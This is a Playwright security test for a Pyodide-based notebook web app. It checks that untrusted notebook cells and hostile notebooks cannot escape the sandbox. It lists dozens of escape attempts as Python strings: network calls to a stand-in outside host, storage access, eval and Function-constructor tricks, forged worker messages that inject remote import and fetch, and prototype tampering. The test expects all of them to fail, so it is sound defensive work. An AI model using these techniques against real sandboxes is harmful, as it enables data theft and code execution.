/**
 * What the cells of a stranger's notebook reach once the reader lets them run: nothing but themselves. Each way
 * out is tried from Python, on hosts with our headers and on hosts without any.
 */
import { createServer } from 'node:http';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { listen } from '../../scripts/lib/ports.mjs';
import { createFileServer } from '../../scripts/lib/server.mjs';
import { sample } from '../sample';
import { cellAt, openFile, rested, run, write, openNotebook } from './notebook';
import { HOSTILE_NOTEBOOKS } from '../fixtures/packed';
import { frames } from './frames';
import * as texts from '../../src/notebook/texts';

const site = join(import.meta.dirname, '../../build');

const WHEEL = '/wheels/tiny-1.0-py3-none-any.whl';

/** Python that does what must not succeed: it has to fail with an error. OTHER and OWN are addresses of sites. */
const WAYS = {
  // Storage
  indexedDB: 'js.indexedDB.open("postwait.notebooks")',
  'indexedDB of self': 'js.self.indexedDB.databases()',
  'indexedDB of globalThis': 'js.globalThis.indexedDB.open("postwait.notebooks")',
  'indexedDB by its getter':
    'js.Object.getOwnPropertyDescriptor(js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)), "indexedDB").get.call(js.self).open("postwait.notebooks")',
  'the interface of indexedDB':
    'js.IDBFactory.prototype.open.call(js.indexedDB, "postwait.notebooks")',
  'indexedDB by Emscripten':
    'pyodide_js.FS.filesystems.IDBFS.indexedDB().open("postwait.notebooks")',
  caches: 'await js.caches.keys()',
  'caches as a way out': 'await (await js.caches.open("x")).add(OTHER)',
  localStorage: 'js.localStorage.setItem("a", "b")',
  sessionStorage: 'js.sessionStorage.setItem("a", "b")',
  cookies: 'await js.cookieStore.set("a", "b")',
  'private files': 'await js.navigator.storage.getDirectory()',
  'private files by their interface': 'await js.StorageManager.prototype.getDirectory()',
  'an old file system': 'js.webkitRequestFileSystemSync(0, 1)',
  'the room for storage': 'await js.navigator.storage.estimate()',
  'files of the reader':
    'pyodide_js.mountNativeFS("/x", await js.navigator.storage.getDirectory())',
  // Other windows and workers
  BroadcastChannel: 'js.BroadcastChannel.new("postwait").postMessage("x")',
  locks: 'js.navigator.locks.request("x", lambda lock: None)',
  'locks by their interface': 'js.LockManager.prototype.request("x")',
  'service workers': 'await js.navigator.serviceWorker.getRegistrations()',
  Worker: 'js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(["1"]))))',
  'Worker of our own file': 'js.Worker.new(OWN + "/service-worker.js")',
  SharedWorker: 'js.SharedWorker.new(OWN + "/service-worker.js")',
  'messages to the page': 'js.postMessage(to_js({"kernel": "endSweepWorkers"}))',
  'messages to the page by their interface':
    'js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, "x")',
  'its own end': 'js.close()',
  notifications: 'js.Notification.new("x")',
  // Networks
  fetch: 'await js.fetch(OTHER)',
  'fetch of our own files': 'await js.fetch(OWN + "/notebook/")',
  'fetch of self': 'await js.self.fetch(OTHER)',
  'fetch by its interface': 'await js.WorkerGlobalScope.prototype.fetch.call(js.self, OTHER)',
  XMLHttpRequest: 'r = js.XMLHttpRequest.new(); r.open("GET", OTHER, False); r.send()',
  'XMLHttpRequest of our own files':
    'r = js.XMLHttpRequest.new(); r.open("GET", OWN + "/notebook/", False); r.send()',
  WebSocket: 'js.WebSocket.new(OTHER.replace("http", "ws"))',
  EventSource: 'js.EventSource.new(OTHER)',
  WebTransport: 'js.WebTransport.new(OTHER.replace("http", "https"))',
  sendBeacon: 'js.navigator.sendBeacon(OTHER)',
  fonts: 'await js.FontFace.new("x", f"url({OTHER})").load()',
  importScripts: 'js.importScripts(OTHER)',
  Request: 'js.Request.new(OTHER)',
  open_url: 'pyodide.http.open_url(OTHER)',
  'open_url of our own files': 'pyodide.http.open_url(OWN + "/notebook/")',
  pyfetch: 'await pyodide.http.pyfetch(OTHER)',
  'pyfetch of our own files': 'await pyodide.http.pyfetch(OWN + "/notebook/")',
  pyxhr: 'from pyodide.http import pyxhr; pyxhr.get(OTHER)',
  urllib: 'import urllib.request; urllib.request.urlopen(OTHER)',
  sockets:
    'import socket; socket.create_connection(("127.0.0.1", int(OTHER.split(":")[2].split("/")[0])))',
  micropip: 'import micropip; await micropip.install(OTHER + "x-1.0-py3-none-any.whl")',
  'packages of Pyodide': 'await pyodide_js.loadPackage(OTHER + "x-1.0-py3-none-any.whl"); import x',
  'a compiled stream': 'await js.WebAssembly.compileStreaming(js.fetch(OTHER))',
  'wheels of other sites': 'pw.install(OTHER + "x-1.0-py3-none-any.whl")',
  'other files than wheels': '_postwait.fetchWheel(OWN + "/notebook/")',
  'an address that lies':
    'js.Object.defineProperty(js.URL.prototype, "origin", to_js({"value": OWN}, dict_converter=js.Object.fromEntries)); _postwait.fetchWheel(OTHER + "x.whl")',
  'another kind of address':
    'js.URL = js.Object; js.URL.prototype = js.Object.prototype; _postwait.fetchWheel(OTHER + "x.whl")',
  'an ending that lies':
    'js.String.prototype.endsWith = lambda *_: True; _postwait.fetchWheel(OWN + "/notebook/")',
  // Code
  eval: 'js.eval("1")',
  'eval by Pyodide': 'pyodide.code.run_js("1")',
  'import() by eval': 'await js.eval(f"import(\'{OTHER}\')")',
  Function: 'js.Function.new("return 1")()',
  'Function by a constructor': 'js.Object.constructor("return 1")()',
  'Function by fetch': 'js.fetch.constructor("return 1")()',
  'import() by an asynchronous function':
    'await pyodide_js.loadPackage.constructor(f"return import(\'{OTHER}\')")()',
  'the constructor of asynchronous functions':
    'await js.Object.getPrototypeOf(pyodide_js.loadPackage).constructor("return 1")()',
  'a text for a timer': 'js.setTimeout("1", 0)',
  'Python once more': 'await pyodide_js.loadPyodide()',
} as const;

/** Python that raises nothing, and must not have anything arrive at either site. */
const SILENT_WAYS = {
  'a start that a cell asks for':
    'js.self.dispatchEvent(js.MessageEvent.new("message", data=js.JSON.parse(json.dumps({"id": "x", "type": "APPLY", "path": ["start"], "argumentList": [{"type": "RAW", "value": {"folder": OTHER, "sizes": {"x.zip": 1}, "pageAddress": OWN}}]}))))',
  'a worker of a sweep': `caught = []
post = js.MessagePort.prototype.postMessage
def catch(this, *given):
    caught.append(this)
    return post.apply(this, to_js(given))
js.MessagePort.prototype.postMessage = create_proxy(catch, capture_this=True)
pw.sweep(pw.preset("S3", run__until_ms=100), seeds=2, workers=1)
js.MessagePort.prototype.postMessage = post
for way in ("Function", "AsyncFunction"):
    path = ["load", "constructor"] if way == "Function" else ["constructor", "constructor"]
    forged = {"id": way, "type": "APPLY", "path": path, "argumentList": [{"type": "RAW", "value": f"import('{OTHER}');fetch('{OTHER}')"}]}
    caught[0].postMessage(js.JSON.parse(json.dumps(forged)))
    forged["type"] = "CONSTRUCT"
    caught[0].postMessage(js.JSON.parse(json.dumps(forged)))
await asyncio.sleep(0.5)
assert caught`,
  'whoever adds a listener': `caught = []
add = js.EventTarget.prototype.addEventListener
def catch(this, *given):
    caught.append(this)
    return add.apply(this, to_js(given))
js.EventTarget.prototype.addEventListener = create_proxy(catch, capture_this=True)
pw.sweep(pw.preset("S3", run__until_ms=100), seeds=2, workers=2)
js.EventTarget.prototype.addEventListener = add
for each in caught:
    try: each.constructor.new(OTHER)
    except Exception: pass`,
};

/** Python that ends itself by what it tries. */
const DEADLY_WAYS = {
  'code by Emscripten':
    'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'/evil\')")',
  'lazy files':
    'import pyodide_js\npyodide_js.FS.createLazyFile("/tmp", "lazy", "/evil", True, False)\nopen("/tmp/lazy").read()',
};

/** Python that has to go on working. */
const ALLOWED = {
  'a run': 'assert pw.run(pw.preset("S1-noise")).hash',
  'a sweep': 'assert len(pw.sweep(pw.preset("S3", run__until_ms=100), seeds=2)) == 2',
  'a plot': 'pw.plot({"x": [1, 2], "y": [3, 4]}, "x", "y")',
  'a wheel of this site': `pw.install("${WHEEL}"); import tiny; assert tiny.answer == 42`,
  'objects of JavaScript': 'assert js.JSON.parse("[1]")[0] == 1 and js.Date.now() > 0',
  'a timer': 'await asyncio.sleep(0.001); js.setTimeout(create_proxy(lambda: None), 0)',
};

const PRELUDE = `import asyncio, json, js, pyodide, pyodide.http, pyodide_js, _postwait
import postwait as pw
from pyodide.code import eval_code_async
from pyodide.ffi import create_proxy, to_js
async def tries(ways):
    ended = {}
    for name, code in ways.items():
        try:
            await eval_code_async(code, globals())
            ended[name] = "done"
        except BaseException as error:
            ended[name] = f"{type(error).__name__}: {error}"
    return ended
`;

const theirs = (own: string, other: string) => {
  const { stringify } = JSON;
  const sets = [ALLOWED, WAYS, SILENT_WAYS].map((ways) => stringify(stringify(ways)));
  const source = `${PRELUDE}OWN, OTHER = ${stringify(own)}, ${stringify(other)}
for ways in (${sets.join(', ')}):
    print("ENDED", json.dumps(await tries(json.loads(ways))))
print("ALL TRIED")`;
  const cell = {
    cell_type: 'code',
    id: 'a',
    metadata: {},
    source,
    outputs: [],
    execution_count: null,
  };
  return stringify({ cells: [cell], metadata: {}, nbformat: 4, nbformat_minor: 5 });
};

const HOSTS = [
  ['with our headers', false],
  ['without headers', true],
] as const;

for (const [host, plain] of sample(HOSTS, 1 / 2)) {
  test(`on a host ${host} a stranger's cells reach nothing but themselves`, async ({ page }) => {
    const asked: string[] = [];
    const wheel = zipSync({ 'tiny/__init__.py': strToU8('answer = 42\n') });
    const files = createFileServer(site, { plain });
    const own = createServer((request, response) => {
      asked.push(request.url ?? '');
      if (request.url === WHEEL) response.end(wheel);
      else files.emit('request', request, response);
    });
    const arrived: string[] = [];
    const other = createServer((request, response) => {
      arrived.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('export default 1');
    });
    const address = `http://127.0.0.1:${await listen(own, 0)}`;
    const elsewhere = `http://127.0.0.1:${await listen(other, 0)}/`;
    try {
      await page.goto(`${address}/notebook/`);
      await expect(page.locator('.cell').first()).toBeVisible();
      await openFile(page, 'theirs.ipynb', theirs(address, elsewhere));
      await expect(page.getByText('This notebook is not yours')).toBeVisible();
      // Before the reader agrees there is no Python that could reach anything.
      await expect(page.getByRole('button', { name: 'Run all' })).toBeDisabled();
      expect(page.workers()).toEqual([]);
      await expect(page.getByText(/^Saved in this browser/)).toBeVisible();
      const before = await traces(page);
      await page.getByRole('button', { name: 'Let it run' }).click();
      await page.getByRole('button', { name: 'Run all' }).click();
      const output = cellAt(page, 1).getByRole('group', { name: /^Output/ });
      await expect(output).toContainText('ALL TRIED');
      await rested(page);
      const sets = [...(await wholeText(page)).matchAll(/^ENDED (.*)$/gm)];
      const [allowed, refused, silent] = sets.map(
        ([, json = '']) => JSON.parse(json) as Record<string, string>,
      );
      expect(allowed).toEqual(allDone(ALLOWED));
      expect(Object.keys(refused ?? {})).toEqual(Object.keys(WAYS));
      const reached = Object.entries(refused ?? {}).filter(([, ended]) => ended === 'done');
      expect(reached).toEqual([]);
      expect(silent).toEqual(allDone(SILENT_WAYS));
      expect(arrived).toEqual([]);
      // Of our own site it has asked for Python, for what sweeps and plots are made of, and for the wheel.
      const strange = asked.filter(
        (path) => !/^\/(notebook\/|_app\/|pyodide\/|wheels\/)?/.test(path),
      );
      expect(strange).toEqual([]);
      expect(
        asked.slice(asked.lastIndexOf(WHEEL)).filter((path) => !path.startsWith('/_app/')),
      ).toEqual([WHEEL]);
      for (const [way, code] of Object.entries(DEADLY_WAYS)) {
        await test.step(way, async () => {
          await write(page, 1, code);
          await run(page, 1);
          await expect(page.locator('.kernel')).toContainText('Python crashed:');
        });
      }
      expect(asked.filter((path) => path.includes('evil'))).toEqual([]);
      expect(await traces(page)).toEqual(before);
    } finally {
      for (const server of [own, other]) {
        server.closeAllConnections();
        server.close();
      }
    }
  });
}

const allDone = (ways: object) =>
  Object.fromEntries(Object.keys(ways).map((name) => [name, 'done']));

/** What a cell might have left in the browser. */
const traces = (page: Page) =>
  page.evaluate(async () => ({
    databases: (await indexedDB.databases()).map(({ name }) => name).sort(),
    caches: await caches.keys(),
    cookies: document.cookie,
    stored: Object.keys(localStorage).sort(),
    files: await navigator.storage
      .getDirectory()
      .then(async (root) =>
        Array.fromAsync((root as unknown as { keys(): AsyncIterable<string> }).keys()),
      ),
  }));

async function wholeText(page: Page): Promise<string> {
  const more = cellAt(page, 1).getByRole('button', { name: /^Show all/ });
  if (await more.isVisible()) await more.click();
  return cellAt(page, 1)
    .getByRole('group', { name: /^Output/ })
    .innerText();
}

/** Notebooks made to do harm: none of them runs anything or asks for anything. */
const corpus = HOSTILE_NOTEBOOKS;

const code = (outputs: unknown[]) => ({
  cell_type: 'code',
  id: 'a',
  metadata: {},
  source: '1',
  execution_count: 1,
  outputs,
});
const display = (data: object) => ({ output_type: 'display_data', metadata: {}, data });
const notebook = (...cells: unknown[]) =>
  JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 });

/** Too large to keep beside the others. */
const made = [
  {
    name: 'huge-output.ipynb',
    text: notebook(
      code([
        { output_type: 'stream', name: 'stdout', text: 'line\n'.repeat(600_000) },
        { output_type: 'stream', name: 'stderr', text: 'x'.repeat(2_000_000) },
        display({ 'text/html': `<table>${'<tr><td>x'.repeat(200_000)}</table>` }),
        display({ 'text/html': `<table>${'<tr><td>x'.repeat(5000)}</table>` }),
      ]),
    ),
  },
  {
    name: 'deep-html.ipynb',
    text: notebook(code([display({ 'text/html': '<div>'.repeat(40_000) })]), {
      cell_type: 'markdown',
      id: 'b',
      metadata: {},
      source: `${'> '.repeat(3000)}deep\n\n${'['.repeat(5000)}\n\n${'*a_'.repeat(5000)}`,
    }),
  },
];

/** What the page did that it must not do: requests to other sites, dialogs, new windows. */
function watch(page: Page): string[] {
  const found: string[] = [];
  const site = () => new URL(page.url()).origin;
  page.on('request', (request) => {
    const url = request.url();
    const isOwn = url.startsWith(`${site()}/`) && !url.includes('evil');
    if (!isOwn && !/^(data|blob):/.test(url)) found.push(url);
  });
  page.on('dialog', (dialog) => {
    found.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => found.push(`popup ${popup.url()}`));
  page.on('pageerror', (error) => found.push(error.message));
  page.on('framenavigated', (frame) => frame.parentFrame() && found.push(`frame ${frame.url()}`));
  return found;
}

for (const { name, text } of sample([...corpus, ...made], 1 / 8)) {
  test(`${name} is harmless, before the reader agrees and after`, async ({ page }) => {
    await openNotebook(page);
    const found = watch(page);
    await openFile(page, name, text);
    await expect(page.getByText(texts.trust.title)).toBeVisible();
    await lookAtEverything(page);
    // Nothing runs by itself: Python is not even asked for.
    await expect(page.locator('.kernel')).toContainText(texts.kernel.states.absent);
    await page.getByRole('button', { name: texts.trust.agree }).click();
    await lookAtEverything(page);
    expect(found).toEqual([]);
    expect(await harmDone(page)).toEqual({ pwned: null, polluted: null, active: 0, title: true });
    await page.getByRole('button', { name: texts.toolbar.help }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
  });
}

/** Brings every cell into sight, with the pointer over it, and opens what can be opened. */
async function lookAtEverything(page: Page) {
  for (const cell of await page.locator('.cell').all()) {
    await cell.scrollIntoViewIfNeeded();
    await cell.hover({ position: { x: 10, y: 10 }, force: true });
  }
  await page.evaluate(() => {
    for (const fold of document.querySelectorAll('details')) fold.open = true;
  });
  await frames(page, 20);
}

function harmDone(page: Page) {
  return page.evaluate(() => {
    const outputs = document.querySelectorAll('.outputs, .rendered');
    const active = [...outputs].flatMap((each) => [
      ...each.querySelectorAll(
        ':is(.html, .prose) :is(script, style, iframe, object, embed, form, input, button, svg, math, link, meta, base, video, audio, [style], [class], [id], [srcset], [background])',
      ),
      ...[...each.querySelectorAll<HTMLElement>('*')].filter((element) =>
        element.getAttributeNames().some((attribute) => /^on/i.test(attribute)),
      ),
      ...[...each.querySelectorAll('a')].filter(
        (link) => !/^(https?|mailto):$/.test(link.protocol) && link.hasAttribute('href'),
      ),
    ]);
    return {
      pwned: (window as { pwned?: unknown }).pwned ?? null,
      polluted: ({} as { polluted?: unknown }).polluted ?? null,
      active: active.length,
      title: document.title.endsWith('Post/Wait'),
    };
  });
}
